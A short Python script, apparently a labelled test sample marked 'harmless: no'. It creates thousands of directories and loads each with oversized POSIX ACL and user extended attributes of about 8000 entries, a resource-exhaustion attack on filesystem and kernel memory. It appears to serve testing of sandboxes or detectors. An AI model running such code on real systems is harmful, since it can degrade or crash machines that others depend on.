# attack: long lists of who may use a file, for each of many files, beside what the files take
# harmless: no
import os
import struct

entries = [(1, 7, -1), *8000 * [(2, 7, os.getuid())], (4, 7, -1), (16, 7, -1), (32, 7, -1)]
text = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
made = 0
for number in range(5000):
    os.mkdir(f"folder{number}")
    for name in ("system.posix_acl_access", "system.posix_acl_default", "user.text"):
        try:
            os.setxattr(f"folder{number}", name, text)
            made += 1
        except OSError as error:
            if number == 0:
                print(name, error)
print(made, "lists", flush=True)
